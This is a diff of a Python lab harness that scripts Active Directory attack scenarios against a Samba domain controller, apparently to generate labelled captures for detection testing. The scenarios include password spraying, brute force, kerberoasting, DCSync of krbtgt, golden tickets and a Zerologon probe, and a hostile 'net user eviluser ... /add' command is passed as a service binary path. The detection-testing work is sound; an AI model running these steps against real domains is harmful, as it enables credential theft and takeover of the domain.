+        "da.admin",
+        "--password",
+        PW["da.admin"],
+        "--levels",
+        "1",
+        "0",
+        desc="SMB session enumeration as da.admin",
+    )
     stop_holder(holder)
 
 
 def start_holder(s: Scenario, ns: str, user: str, seconds: int) -> subprocess.Popen:
     """A background SMB session (user logged on at a workstation) for `seconds`."""
     env = dict(os.environ, PYTHONPATH=str(REPO), DCW_LAB_WORK=str(WORK))
-    p = subprocess.Popen(["ip", "netns", "exec", ns, str(VPY), "-m", "lab.attacks", "smb_login",
-                          "--user", user, "--password", PW[user], "--hold", str(seconds)],
-                         env=env, cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-    s.steps.append(f"{host_of(ns)}: {user} keeps an SMB session to the DC open "
-                   f"(`python -m lab.attacks smb_login --user {user} --hold {seconds}`)")
+    p = subprocess.Popen(
+        [
+            "ip",
+            "netns",
+            "exec",
+            ns,
+            str(VPY),
+            "-m",
+            "lab.attacks",
+            "smb_login",
+            "--user",
+            user,
+            "--password",
+            PW[user],
+            "--hold",
+            str(seconds),
+        ],
+        env=env,
+        cwd=REPO,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
+    s.steps.append(
+        f"{host_of(ns)}: {user} keeps an SMB session to the DC open "
+        f"(`python -m lab.attacks smb_login --user {user} --hold {seconds}`)"
+    )
     time.sleep(2)
     return p
 
@@ -712,306 +1013,667 @@ def stop_holder(p: subprocess.Popen) -> None:
         p.wait()
 
 
-@scenario("samr_recon", expected="2021", key_entities="alice;WS1;10.77.0.21;DC01;Domain Admins",
-          notes="SAMR over SMB \\pipe\\samr from WS1 as alice: SamrConnect5, "
-                "EnumerateDomainsInSamServer, LookupDomainInSamServer, OpenDomain, "
-                "EnumerateUsersInDomain (opnum 13), EnumerateGroupsInDomain, OpenGroup(512 "
-                "Domain Admins)/GetMembersInGroup, OpenGroup(519), LookupIdsInDomain, "
-                "OpenAlias(544 Administrators)/GetMembersInAlias.")
+@scenario(
+    "samr_recon",
+    expected="2021",
+    key_entities="alice;WS1;10.77.0.21;DC01;Domain Admins",
+    notes="SAMR over SMB \\pipe\\samr from WS1 as alice: SamrConnect5, "
+    "EnumerateDomainsInSamServer, LookupDomainInSamServer, OpenDomain, "
+    "EnumerateUsersInDomain (opnum 13), EnumerateGroupsInDomain, OpenGroup(512 "
+    "Domain Admins)/GetMembersInGroup, OpenGroup(519), LookupIdsInDomain, "
+    "OpenAlias(544 Administrators)/GetMembersInAlias.",
+    audit_expected="",
+    audit_tolerated="2021",
+)
 def sc_samr(s):
-    s.audit_expected, s.audit_tolerated = "", "2021"
-    step(s, "dcw-ws1", "samr_recon", "--user", "alice", "--password", PW["alice"],
-         desc="net user /domain + net group \"Domain Admins\" /domain equivalent")
+    step(
+        s,
+        "dcw-ws1",
+        "samr_recon",
+        "--user",
+        "alice",
+        "--password",
+        PW["alice"],
+        desc='net user /domain + net group "Domain Admins" /domain equivalent',
+    )
 
 
-@scenario("ldap_recon", expected="2038", tolerated="2210",
-          key_entities="alice;WS1;10.77.0.21;DC01",
-          notes="BloodHound/SharpHound-style LDAP collection from WS1 as alice (ldap3, NTLM bind "
-                "without sealing, so the filters are visible): rootDSE, all users "
-                "(samAccountType=805306368), all groups, adminCount=1, servicePrincipalName=*, "
-                "UAC bitwise filters 4194304 (DONT_REQ_PREAUTH), 524288 (TRUSTED_FOR_DELEGATION),"
-                " 8192 (DCs), computers, GPOs, trusts, OUs, msDS-AllowedToDelegateTo.")
+@scenario(
+    "ldap_recon",
+    expected="2038",
+    tolerated="2210",
+    key_entities="alice;WS1;10.77.0.21;DC01",
+    notes="BloodHound/SharpHound-style LDAP collection from WS1 as alice (ldap3, NTLM bind "
+    "without sealing, so the filters are visible): rootDSE, all users "
+    "(samAccountType=805306368), all groups, adminCount=1, servicePrincipalName=*, "
+    "UAC bitwise filters 4194304 (DONT_REQ_PREAUTH), 524288 (TRUSTED_FOR_DELEGATION),"
+    " 8192 (DCs), computers, GPOs, trusts, OUs, msDS-AllowedToDelegateTo.",
+    audit_expected="",
+    audit_tolerated="2038;2210",
+)
 def sc_ldap(s):
-    s.audit_expected, s.audit_tolerated = "", "2038;2210"
-    step(s, "dcw-ws1", "ldap_recon", "--user", "alice", "--password", PW["alice"],
-         desc="BloodHound-like LDAP queries")
+    step(
+        s,
+        "dcw-ws1",
+        "ldap_recon",
+        "--user",
+        "alice",
+        "--password",
+        PW["alice"],
+        desc="BloodHound-like LDAP queries",
+    )
 
 
-@scenario("dns_axfr", expected="2007", key_entities="WS1;10.77.0.21;DC01;contoso.local",
-          notes="DNS reconnaissance from WS1: SRV look-ups, then AXFR (zone transfer) requests over"
-                " TCP/53 for contoso.local and _msdcs.contoso.local; Samba's internal DNS answers"
-                " without any records (no transfer; the requests are on the wire).")
+@scenario(
+    "dns_axfr",
+    expected="2007",
+    key_entities="WS1;10.77.0.21;DC01;contoso.local",
+    notes="DNS reconnaissance from WS1: SRV look-ups, then AXFR (zone transfer) requests over"
+    " TCP/53 for contoso.local and _msdcs.contoso.local; Samba's internal DNS answers"
+    " without any records (no transfer; the requests are on the wire).",
+    audit_expected="",
+    audit_tolerated="2007",
+)
 def sc_dns(s):
-    s.audit_expected, s.audit_tolerated = "", "2007"
-    step(s, "dcw-ws1", "dns_axfr", "--srv", f"_ldap._tcp.{DNS_DOMAIN}", "--zones", DNS_DOMAIN,
-         f"_msdcs.{DNS_DOMAIN}", desc="nslookup ls -d / dig axfr equivalent")
+    step(
+        s,
+        "dcw-ws1",
+        "dns_axfr",
+        "--srv",
+        f"_ldap._tcp.{DNS_DOMAIN}",
+        "--zones",
+        DNS_DOMAIN,
+        f"_msdcs.{DNS_DOMAIN}",
+        desc="nslookup ls -d / dig axfr equivalent",
+    )
 
 
-@scenario("kerberos_user_enum", expected="2003", key_entities="WS1;10.77.0.21;DC01",
-          notes="Account enumeration from WS1: 40 Kerberos AS-REQs (no pre-auth data) for "
-                "mostly nonexistent user names; the KDC answers KDC_ERR_C_PRINCIPAL_UNKNOWN "
-                "for absent names and PREAUTH_REQUIRED/PREAUTH_FAILED for the real ones "
-                "(alice, bob, svc_sql, legacy.app in the list).")
+@scenario(
+    "kerberos_user_enum",
+    expected="2003",
+    key_entities="WS1;10.77.0.21;DC01",
+    notes="Account enumeration from WS1: Kerberos AS-REQs for 36 user names, 32 of them "
+    "nonexistent (KDC_ERR_C_PRINCIPAL_UNKNOWN); the 4 real ones (alice, bob, svc_sql, "
+    "administrator) get PREAUTH_REQUIRED and then PREAUTH_FAILED for a wrong password.",
+    audit_expected="2003",
+    audit_tolerated="",
+)
 def sc_user_enum(s):
-    s.audit_expected, s.audit_tolerated = "2003", ""
-    step(s, "dcw-ws1", "user_enum", "--count", "36", "--names", "alice", "bob", "svc_sql",
-         "administrator", desc="kerbrute userenum-like")
+    step(
+        s,
+        "dcw-ws1",
+        "user_enum",
+        "--count",
+        "36",
+        "--names",
+        "alice",
+        "bob",
+        "svc_sql",
+        "administrator",
+        desc="kerbrute userenum-like",
+    )
 
 
-@scenario("password_spray_kerberos", expected="2023",
-          key_entities="WS1;10.77.0.21;DC01;alice;bob;carol;dave;erin;svc_sql;hd.admin",
-          notes="Password spray over Kerberos from WS1: one password (Winter2024!) against 9 "
-                "accounts via AS-REQ with PA-ENC-TIMESTAMP; 8 KDC_ERR_PREAUTH_FAILED, one "
-                "success (carol).")
+@scenario(
+    "password_spray_kerberos",
+    expected="2023",
+    key_entities="WS1;10.77.0.21;DC01;alice;bob;carol;dave;erin;svc_sql;hd.admin",
+    notes="Password spray over Kerberos from WS1: one password (Winter2024!) against 9 "
+    "accounts via AS-REQ with PA-ENC-TIMESTAMP; 8 KDC_ERR_PREAUTH_FAILED, one "
+    "success (carol).",
+    audit_expected="2023",
+    audit_tolerated="",
+)
 def sc_spray(s):
-    s.audit_expected, s.audit_tolerated = "2023", ""
-    step(s, "dcw-ws1", "spray", "--password", "Winter2024!", "--users", "alice", "bob",
-         "carol", "dave", "erin", "svc_sql", "hd.admin", "da.admin", "Administrator",
-         desc="kerbrute passwordspray-like")
+    step(
+        s,
+        "dcw-ws1",
+        "spray",
+        "--password",
+        "Winter2024!",
+        "--users",
+        "alice",
+        "bob",
+        "carol",
+        "dave",
+        "erin",
+        "svc_sql",
+        "hd.admin",
+        "da.admin",
+        "Administrator",
+        desc="kerbrute passwordspray-like",
+    )
 
 
-@scenario("brute_force_ntlm", expected="2023", key_entities="WS1;10.77.0.21;DC01;dave",
-          notes="Brute force over SMB/NTLM from WS1: 15 wrong passwords for dave "
-                "(STATUS_LOGON_FAILURE each), then 1 for erin.")
+@scenario(
+    "brute_force_ntlm",
+    expected="2023",
+    key_entities="WS1;10.77.0.21;DC01;dave",
+    notes="Brute force over SMB/NTLM from WS1: 15 wrong passwords for dave "
+    "(STATUS_LOGON_FAILURE each), then 1 for erin.",
+    audit_expected="2023",
+    audit_tolerated="",
+)
 def sc_brute(s):
-    s.audit_expected, s.audit_tolerated = "2023", ""
-    pws = ["Password1", "Welcome1", "Summer2024!", "Winter2024!", "P@ssw0rd", "Contoso1",
-           "Contoso2024!", "Dave2024", "dave123", "Qwerty123", "Letmein1", "Spring2024!",
-           "Autumn2024!", "Passw0rd!", "Changeme1"]
-    step(s, "dcw-ws1", "brute_ntlm", "--users", "dave", "--passwords", *pws,
-         desc="hydra/crackmapexec-like SMB brute force")
+    pws = [
+        "Password1",
+        "Welcome1",
+        "Summer2024!",
+        "Winter2024!",
+        "P@ssw0rd",
+        "Contoso1",
+        "Contoso2024!",
+        "Dave2024",
+        "dave123",
+        "Qwerty123",
+        "Letmein1",
+        "Spring2024!",
+        "Autumn2024!",
+        "Passw0rd!",
+        "Changeme1",
+    ]
+    step(
+        s,
+        "dcw-ws1",
+        "brute_ntlm",
+        "--users",
+        "dave",
+        "--passwords",
+        *pws,
+        desc="hydra/crackmapexec-like SMB brute force",
+    )
 
 
-@scenario("asrep_roast", expected="2412", key_entities="legacy.app;WS1;10.77.0.21;DC01",
-          notes="AS-REP roasting from WS1: AS-REQ without pre-authentication for legacy.app "
-                "(DONT_REQ_PREAUTH set) asking only RC4 (etype 23); the KDC returns an AS-REP "
-                "whose enc-part is crackable offline. Also tries alice (PREAUTH_REQUIRED).")
+@scenario(
+    "asrep_roast",
+    expected="2412",
+    key_entities="legacy.app;WS1;10.77.0.21;DC01",
+    notes="AS-REP roasting from WS1: AS-REQ without pre-authentication for legacy.app "
+    "(DONT_REQ_PREAUTH set) asking only RC4 (etype 23); the KDC returns an AS-REP "
+    "whose enc-part is crackable offline. Also tries alice (PREAUTH_REQUIRED).",
+    audit_expected="2412",
+    audit_tolerated="",
+)
 def sc_asrep(s):
     # audit: Kerberos KDC Authentication for legacy.app, authDescription "Unknown
     # Pre-authentication" (TGT issued without pre-auth), from 10.77.0.21
-    s.audit_expected, s.audit_tolerated = "2412", ""
-    step(s, "dcw-ws1", "asrep_roast", "--users", "legacy.app", "alice",
-         desc="GetNPUsers-like AS-REQ without pre-auth")
+    step(
+        s,
+        "dcw-ws1",
+        "asrep_roast",
+        "--users",
+        "legacy.app",
+        "alice",
+        desc="GetNPUsers-like AS-REQ without pre-auth",
+    )
 
 
-@scenario("kerberoast", expected="2410", key_entities="alice;svc_sql;WS1;10.77.0.21;DC01",
-          notes="Kerberoasting from WS1: alice gets a TGT (AES), then TGS-REQs asking only RC4 "
-                "(etype 23) for MSSQLSvc/sql01.contoso.local:1433 (svc_sql) and for a "
-                "nonexistent SPN.")
+@scenario(
+    "kerberoast",
+    expected="2410",
+    key_entities="alice;svc_sql;WS1;10.77.0.21;DC01",
+    notes="Kerberoasting from WS1: alice gets a TGT (AES), then TGS-REQs asking only RC4 "
+    "(etype 23) for MSSQLSvc/sql01.contoso.local:1433 (svc_sql) and for a "
+    "nonexistent SPN.",
+    audit_expected="",
+    audit_tolerated="2410",
+)
 def sc_kerberoast(s):
-    s.audit_expected, s.audit_tolerated = "", "2410"
-    step(s, "dcw-ws1", "kerberoast", "--user", "alice", "--password", PW["alice"], "--spns",
-         "MSSQLSvc/sql01.contoso.local:1433", "HTTP/intranet.contoso.local",
-         desc="GetUserSPNs -request equivalent (TGS-REQ built by hand)")
+    step(
+        s,
+        "dcw-ws1",
+        "kerberoast",
+        "--user",
+        "alice",
+        "--password",
+        PW["alice"],
+        "--spns",
+        "MSSQLSvc/sql01.contoso.local:1433",
+        "HTTP/intranet.contoso.local",
+        desc="GetUserSPNs -request equivalent (TGS-REQ built by hand)",
+    )
 
 
-@scenario("overpass_the_hash", expected="2008", tolerated="2002",
-          key_entities="hd.admin;WS1;10.77.0.21;DC01",
-          notes="Overpass-the-hash from WS1: AS-REQ for hd.admin offering only RC4-HMAC "
-                "(etype 23) with PA-ENC-TIMESTAMP made from hd.admin's NT hash (every other "
-                "client in the lab offers AES first); TGS for cifs/dc01 and an SMB session with "
-                "the ticket. 2002 (tool-built AS-REQ) tolerated.")
+@scenario(
+    "overpass_the_hash",
+    expected="2008",
+    tolerated="2002",
+    key_entities="hd.admin;WS1;10.77.0.21;DC01",
+    notes="Overpass-the-hash from WS1: AS-REQ for hd.admin offering only RC4-HMAC "
+    "(etype 23) with PA-ENC-TIMESTAMP made from hd.admin's NT hash (every other "
+    "client in the lab offers AES first); TGS for cifs/dc01 and an SMB session with "
+    "the ticket. 2002 (tool-built AS-REQ) tolerated.",
+    audit_expected="2008",
+    audit_tolerated="2002",
+)
 def sc_opth(s):
     # Samba's KDC Authentication record: passwordType arcfour-hmac-md5 (others are AES)
-    s.audit_expected, s.audit_tolerated = "2008", "2002"
-    step(s, "dcw-ws1", "asktgt", "--user", "hd.admin", "--nthash", nthash(PW["hd.admin"]),
-         "--use-spn", f"cifs/dc01.{DNS_DOMAIN}", "--smb",
-         desc="Rubeus asktgt /rc4 equivalent with hd.admin's NT hash")
+    step(
+        s,
+        "dcw-ws1",
+        "asktgt",
+        "--user",
+        "hd.admin",
+        "--nthash",
+        nthash(PW["hd.admin"]),
+        "--use-spn",
+        f"cifs/dc01.{DNS_DOMAIN}",
+        "--smb",
+        desc="Rubeus asktgt /rc4 equivalent with hd.admin's NT hash",
+    )
 
 
-@scenario("pass_the_ticket", expected="2018",
-          key_entities="da.admin;WS1;WS2;10.77.0.21;10.77.0.22;DC01",
-          notes="Pass-the-ticket: da.admin logs on at WS2 (10.77.0.22, MIT kinit, AES TGT); the "
-                "same TGT (ccache copied) is then used from WS1 (10.77.0.21) for TGS-REQs "
-                "(cifs/dc01) and an SMB session to the DC.")
+@scenario(
+    "pass_the_ticket",
+    expected="2018",
+    key_entities="da.admin;WS1;WS2;10.77.0.21;10.77.0.22;DC01",
+    notes="Pass-the-ticket: da.admin logs on at WS2 (10.77.0.22, MIT kinit, AES TGT); the "
+    "same TGT (ccache copied) is then used from WS1 (10.77.0.21) for TGS-REQs "
+    "(cifs/dc01) and an SMB session to the DC.",
+    audit_expected="",
+    audit_tolerated="2018",
+)
 def sc_ptt(s):
-    s.audit_expected, s.audit_tolerated = "", "2018"
     kinit(s, "dcw-ws2", "da.admin", PW["da.admin"], "da.cc", "da.admin logs on at WS2")
     smbclient_krb(s, "dcw-ws2", "da.cc", "netlogon", "ls", "da.admin uses the ticket on WS2")
-    step(s, "dcw-ws1", "smb_login", "--ccache", f"{WORK}/da.cc",
-         desc="the stolen da.admin TGT used from WS1")
+    step(
+        s,
+        "dcw-ws1",
+        "smb_login",
+        "--ccache",
+        f"{WORK}/da.cc",
+        desc="the stolen da.admin TGT used from WS1",
+    )
 
 
-EVIL_CMD = ("cmd.exe /c net user eviluser P@ss1234! /add && "
-            "net localgroup administrators eviluser /add")
+EVIL_CMD = (
+    "cmd.exe /c net user eviluser P@ss1234! /add && net localgroup administrators eviluser /add"
+)
 
 
-@scenario("remote_exec", expected="2019", tolerated="2026",
-          key_entities="da.admin;WS1;10.77.0.21;DC01;WinUpdSvc;eviluser",
-          notes="Remote code execution attempts against the DC from WS1 as da.admin: svcctl "
-                "OpenSCManagerW + CreateServiceW 'WinUpdSvc' with binary path '" + EVIL_CMD +
-                "' (Samba does not implement service creation: nca_s_op_rng_error), then "
-                "Task Scheduler via \\pipe\\atsvc (SchRpcRegisterTask and NetrJobAdd; Samba "
-                "has no atsvc pipe: STATUS_OBJECT_NAME_NOT_FOUND). The requests are on the wire; "
-                "nothing ran.")
+@scenario(
+    "remote_exec",
+    expected="2019",
+    tolerated="2026",
+    key_entities="da.admin;WS1;10.77.0.21;DC01;WinUpdSvc;eviluser",
+    notes="Remote code execution attempts against the DC from WS1 as da.admin: svcctl "
+    "OpenSCManagerW + CreateServiceW 'WinUpdSvc' with binary path '"
+    + EVIL_CMD
+    + "' (Samba does not implement service creation: nca_s_op_rng_error), then "
+    "Task Scheduler via \\pipe\\atsvc (SchRpcRegisterTask and NetrJobAdd; Samba "
+    "has no atsvc pipe: STATUS_OBJECT_NAME_NOT_FOUND). The requests are on the wire; "
+    "nothing ran.",
+    audit_expected="",
+    audit_tolerated="2019;2026",
+)
 def sc_rce(s):
-    s.audit_expected, s.audit_tolerated = "", "2019;2026"
-    step(s, "dcw-ws1", "svcctl", "--user", "da.admin", "--password", PW["da.admin"], "--name",
-         "WinUpdSvc", "--binpath", EVIL_CMD, desc="psexec/smbexec-style service creation")
-    step(s, "dcw-ws1", "atsvc", "--user", "da.admin", "--password", PW["da.admin"], "--name",
-         "WinUpdTask", "--cmd", "net user eviluser P@ss1234! /add",
-         desc="atexec-style task registration")
+    step(
+        s,
+        "dcw-ws1",
+        "svcctl",
+        "--user",
+        "da.admin",
+        "--password",
+        PW["da.admin"],
+        "--name",
+        "WinUpdSvc",
+        "--binpath",
+        EVIL_CMD,
+        desc="psexec/smbexec-style service creation",
+    )
+    step(
+        s,
+        "dcw-ws1",
+        "atsvc",
+        "--user",
+        "da.admin",
+        "--password",
+        PW["da.admin"],
+        "--name",
+        "WinUpdTask",
+        "--cmd",
+        "net user eviluser P@ss1234! /add",
+        desc="atexec-style task registration",
+    )
 
 
-@scenario("user_added_to_admins", expected="2024",
-          key_entities="da.admin;eviluser2;Domain Admins;Administrators;WS1;10.77.0.21;DC01",
-          notes="From WS1 as da.admin over LDAP (ldap3, NTLM bind, unsealed): add user "
-                "eviluser2, add it to Domain Admins and to BUILTIN\\Administrators, then delete "
-                "it after 2 s.")
+@scenario(
+    "user_added_to_admins",
+    expected="2024",
+    key_entities="da.admin;eviluser2;Domain Admins;Administrators;WS1;10.77.0.21;DC01",
+    notes="From WS1 as da.admin over LDAP (ldap3, NTLM bind, unsealed): add user "
+    "eviluser2, add it to Domain Admins and to BUILTIN\\Administrators, then delete "
+    "it after 2 s.",
+    audit_expected="2024",
+    audit_tolerated="",
+)
 def sc_add_admin(s):
-    s.audit_expected, s.audit_tolerated = "2024", ""
-    step(s, "dcw-ws1", "add_admin", "--user", "da.admin", "--password", PW["da.admin"],
-         "--new-user", "eviluser2", "--groups", "Domain Admins", "Administrators",
-         "--cleanup-after", "2", desc="net user /add + net group \"Domain Admins\" /add")
+    step(
+        s,
+        "dcw-ws1",
+        "add_admin",
+        "--user",
+        "da.admin",
+        "--password",
+        PW["da.admin"],
+        "--new-user",
+        "eviluser2",
+        "--groups",
+        "Domain Admins",
+        "Administrators",
+        "--cleanup-after",
+        "2",
+        desc='net user /add + net group "Domain Admins" /add',
+    )
 
 
-@scenario("dcsync", expected="2006", key_entities="da.admin;krbtgt;WS1;10.77.0.21;DC01",
-          notes="DCSync from WS1 (not a DC) as da.admin with impacket secretsdump "
-                "-just-dc-user krbtgt: epm map, DRSUAPI over ncacn_ip_tcp with NTLM and packet "
-                "privacy: DRSBind, DRSDomainControllerInfo, DRSCrackNames, DRSGetNCChanges "
-                "(EXOP_REPL_OBJ) - krbtgt's NT hash and AES keys returned.")
+@scenario(
+    "dcsync",
+    expected="2006",
+    tolerated="2017;2021",
+    key_entities="da.admin;krbtgt;WS1;10.77.0.21;DC01",
+    notes="DCSync from WS1 (not a DC) as da.admin with impacket secretsdump "
+    "-just-dc-user krbtgt: epm map, DRSUAPI over ncacn_ip_tcp with NTLM and packet "
+    "privacy: DRSBind, DRSDomainControllerInfo, DRSCrackNames, DRSGetNCChanges "
+    "(EXOP_REPL_OBJ) - krbtgt's NT hash and AES keys returned. secretsdump also "
+    "opens SAMR (Connect, LookupDomain, OpenDomain): 2021 tolerated. da.admin's NT hash is "
+    "used over NTLM from WS1 (pass-the-hash): 2017 tolerated.",
+    audit_expected="",
+    audit_tolerated="2006;2017;2021",
+)
 def sc_dcsync(s):
-    s.audit_expected, s.audit_tolerated = "", "2006"
-    step(s, "dcw-ws1", "dcsync", "--user", "da.admin", "--nthash", nthash(PW["da.admin"]),
-         "--target-user", "krbtgt", desc="secretsdump.py -just-dc-user krbtgt")
+    step(
+        s,
+        "dcw-ws1",
+        "dcsync",
+        "--user",
+        "da.admin",
+        "--nthash",
+        nthash(PW["da.admin"]),
+        "--target-user",
+        "krbtgt",
+        desc="secretsdump.py -just-dc-user krbtgt",
+    )
 
 
-@scenario("dpapi_backupkey", expected="2020", key_entities="da.admin;WS1;10.77.0.21;DC01",
-          notes="MS-BKRP BackuprKey with BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID over SMB "
-                "\\pipe\\protected_storage (packet privacy) from WS1 as da.admin "
-                "(mimikatz lsadump::backupkeys / dpapi.py backupkeys equivalent).")
+@scenario(
+    "dpapi_backupkey",
+    expected="2020",
+    key_entities="da.admin;WS1;10.77.0.21;DC01",
+    notes="MS-BKRP BackuprKey with BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID over SMB "
+    "\\pipe\\protected_storage (packet privacy) from WS1 as da.admin "
+    "(mimikatz lsadump::backupkeys / dpapi.py backupkeys equivalent).",
+    audit_expected="",
+    audit_tolerated="2020",
+)
 def sc_bkrp(s):
-    s.audit_expected, s.audit_tolerated = "", "2020"
-    step(s, "dcw-ws1", "bkrp", "--user", "da.admin", "--password", PW["da.admin"],
-         desc="DPAPI domain backup key retrieval")
+    step(
+        s,
+        "dcw-ws1",
+        "bkrp",
+        "--user",
+        "da.admin",
+        "--password",
+        PW["da.admin"],
+        desc="DPAPI domain backup key retrieval",
+    )
 
 
 def golden_steps(s: Scenario) -> None:
     facts = domain_facts()
     if not (WORK / "krbtgt.secrets.json").exists():
         raise RuntimeError("golden ticket needs krbtgt secrets (run dcsync first)")
-    step(s, "dcw-ws1", "golden", "--rc4", "--domain-sid", facts["sid"], "--kvno",
-         facts["krbtgt_kvno"], desc="ticketer.py golden ticket with krbtgt's NT hash (RC4)")
-    step(s, "dcw-ws1", "golden", "--domain-sid", facts["sid"], "--kvno", facts["krbtgt_kvno"],
-         desc="ticketer.py golden ticket with krbtgt's AES256 key, used for TGS + SMB")
+    step(
+        s,
+        "dcw-ws1",
+        "golden",
+        "--rc4",
+        "--domain-sid",
+        facts["sid"],
+        "--kvno",
+        facts["krbtgt_kvno"],
+        desc="ticketer.py golden ticket with krbtgt's NT hash (RC4)",
+    )
+    step(
+        s,
+        "dcw-ws1",
+        "golden",
+        "--domain-sid",
+        facts["sid"],
+        "--kvno",
+        facts["krbtgt_kvno"],
+        desc="ticketer.py golden ticket with krbtgt's AES256 key, used for TGS + SMB",
+    )
 
 
-@scenario("golden_ticket", expected="2032", tolerated="2013;2022;2027;2040",
-          key_entities="Administrator;krbtgt;WS1;10.77.0.21;DC01",
-          notes="Golden ticket from WS1 (krbtgt keys taken by a DCSync outside this capture): "
-                "TGT for Administrator (RID 500, groups 513/512/520/518/519, 10-year lifetime) "
-                "forged with impacket ticketer; first an RC4-encrypted one (TGS-REQ whose TGT "
-                "enc-part is etype 23 while the KDC issues AES: refused by Samba with "
-                "KRB_AP_ERR_BADKEYVER), then an AES256 one used for TGS-REQs (cifs/, ldap/dc01) "
-                "and an SMB session. No AS exchange for Administrator exists.")
+@scenario(
+    "golden_ticket",
+    expected="2032",
+    tolerated="2013;2022;2027;2040",
+    key_entities="Administrator;krbtgt;WS1;10.77.0.21;DC01",
+    notes="Golden ticket from WS1 (krbtgt keys taken by a DCSync outside this capture): "
+    "TGT for Administrator (RID 500, groups 513/512/520/518/519, 10-year lifetime) "
+    "forged with impacket ticketer; first an RC4-encrypted one (TGS-REQ whose TGT "
+    "enc-part is etype 23 while the KDC issues AES: refused by Samba with "
+    "KRB_AP_ERR_BADKEYVER), then an AES256 one used for TGS-REQs (cifs/, ldap/dc01) "
+    "and an SMB session. No AS exchange for Administrator exists.",
+    audit_expected="",
+    audit_tolerated="2013;2022;2027;2032;2040",
+)
 def sc_golden(s):
-    s.audit_expected, s.audit_tolerated = "", "2013;2022;2027;2032;2040"
     if not (WORK / "krbtgt.secrets.json").exists():
         # obtain the krbtgt keys outside the capture window
         attack("dcw-ws1", "dcsync", "--user", "da.admin", "--nthash", nthash(PW["da.admin"]))
     golden_steps(s)
 
 
-@scenario("zerologon_attempt", expected="2411", key_entities="WS1;10.77.0.21;DC01;DC01$",
-          notes="Zerologon (CVE-2020-1472) probe from WS1: netlogon over ncacn_ip_tcp, 40x "
-                "NetrServerReqChallenge + NetrServerAuthenticate3 for DC01$ with an all-zero "
-                "client credential and challenge (Samba refuses each with ACCESS_DENIED).")
+@scenario(
+    "zerologon_attempt",
+    expected="2411",
+    key_entities="WS1;10.77.0.21;DC01;DC01$",
+    notes="Zerologon (CVE-2020-1472) probe from WS1: netlogon over ncacn_ip_tcp, 40x "
+    "NetrServerReqChallenge + NetrServerAuthenticate3 for DC01$ with an all-zero "
+    "client credential and challenge (Samba refuses each with ACCESS_DENIED).",
+    audit_expected="2411",
+    audit_tolerated="",
+)
 def sc_zerologon(s):
     # audit: 40 NETLOGON ServerAuthenticate records for DC01$ from 10.77.0.21, ACCESS_DENIED
-    s.audit_expected, s.audit_tolerated = "2411", ""
     step(s, "dcw-ws1", "zerologon", "--attempts", "40", desc="zerologon_tester-like")
 
 
-@scenario("large_smb_read", expected="2030", snaplen=256,
-          key_entities="alice;WS1;10.77.0.21;DC01;ntds.dit",
-          notes="alice copies \\\\dc01\\data\\backup\\ntds.dit (48 MiB) from the DC to WS1 over "
-                "SMB2 (captured with snaplen 256: headers only).")
+@scenario(
+    "large_smb_read",
+    expected="2030",
+    snaplen=256,
+    key_entities="alice;WS1;10.77.0.21;DC01;ntds.dit",
+    notes="alice copies \\\\dc01\\data\\backup\\ntds.dit (48 MiB) from the DC to WS1 over "
+    "SMB2 (captured with snaplen 256: headers only).",
+    audit_expected="",
+    audit_tolerated="2030",
+)
 def sc_large_read(s):
-    s.audit_expected, s.audit_tolerated = "", "2030"
-    step(s, "dcw-ws1", "smb_login", "--user", "alice", "--password", PW["alice"], "--list",
-         "data:backup/*", "--read", "data:backup/ntds.dit", desc="copy of a large file")
+    step(
+        s,
+        "dcw-ws1",
+        "smb_login",
+        "--user",
+        "alice",
+        "--password",
+        PW["alice"],
+        "--list",
+        "data:backup/*",
+        "--read",
+        "data:backup/ntds.dit",
+        desc="copy of a large file",
+    )
 
 
-@scenario("honeytoken_logon", expected="2014",
-          key_entities="backup.admin;WS2;10.77.0.22;DC01",
-          notes="The honeytoken account backup.admin (description says never used) "
-                "authenticates from WS2: Kerberos AS exchange (kinit) and an SMB/NTLM logon.")
+@scenario(
+    "honeytoken_logon",
+    expected="2014",
+    key_entities="backup.admin;WS2;10.77.0.22;DC01",
+    notes="The honeytoken account backup.admin (description says never used) "
+    "authenticates from WS2: Kerberos AS exchange (kinit) and an SMB/NTLM logon.",
+    audit_expected="2014",
+    audit_tolerated="",
+)
 def sc_honeytoken(s):
-    s.audit_expected, s.audit_tolerated = "2014", ""
-    kinit(s, "dcw-ws2", "backup.admin", PW["backup.admin"], "honey.cc",
-          "honeytoken Kerberos logon")
-    step(s, "dcw-ws2", "smb_login", "--user", "backup.admin", "--password",
-         PW["backup.admin"], desc="honeytoken NTLM logon")
+    kinit(s, "dcw-ws2", "backup.admin", PW["backup.admin"], "honey.cc", "honeytoken Kerberos logon")
+    step(
+        s,
+        "dcw-ws2",
+        "smb_login",
+        "--user",
+        "backup.admin",
+        "--password",
+        PW["backup.admin"],
+        desc="honeytoken NTLM logon",
+    )
 
 
-@scenario("killchain", expected="2012;2008;2018;2019;2006;2032",
-          tolerated="2002;2013;2022;2026;2027;2040;2021",
-          key_entities="alice;hd.admin;da.admin;Administrator;krbtgt;WS1;WS2;10.77.0.21;"
-                       "10.77.0.22;DC01;10.77.0.10;WinUpdSvc;eviluser",
-          notes="One attack story in order (see README.md): (1) baseline: DC locator, WS1$ and "
-                "alice logons + GPO reads, da.admin logs on at WS2 and keeps an SMB session; "
-                "(2) alice on WS1 runs NetrSessionEnum (srvsvc, levels 10/502/1/0: "
-                "ACCESS_DENIED from Samba) to find where da.admin is logged on; (3) "
-                "overpass-the-hash: RC4-only AS-REQ for hd.admin from its stolen NT hash, TGS "
-                "cifs/dc01 and SMB; (4) pass-the-ticket: da.admin's TGT from WS2 used from WS1 "
-                "(TGS-REQ + SMB from 10.77.0.21); (5) remote code execution on the DC with "
-                "that ticket: svcctl CreateServiceW WinUpdSvc '" + EVIL_CMD + "' (refused by "
-                "Samba, on the wire); (6) DCSync of krbtgt from WS1 as da.admin (DRSUAPI "
-                "DRSGetNCChanges, NTLM with da.admin's NT hash); (7) golden ticket for "
-                "Administrator: RC4-forged TGT (TGS-REQ refused) and AES-forged TGT used for "
-                "TGS-REQs and SMB.")
+@scenario(
+    "killchain",
+    expected="2012;2008;2018;2019;2006;2032",
+    tolerated="2002;2013;2017;2021;2022;2026;2027;2040",
+    key_entities="alice;hd.admin;da.admin;Administrator;krbtgt;WS1;WS2;10.77.0.21;"
+    "10.77.0.22;DC01;10.77.0.10;WinUpdSvc;eviluser",
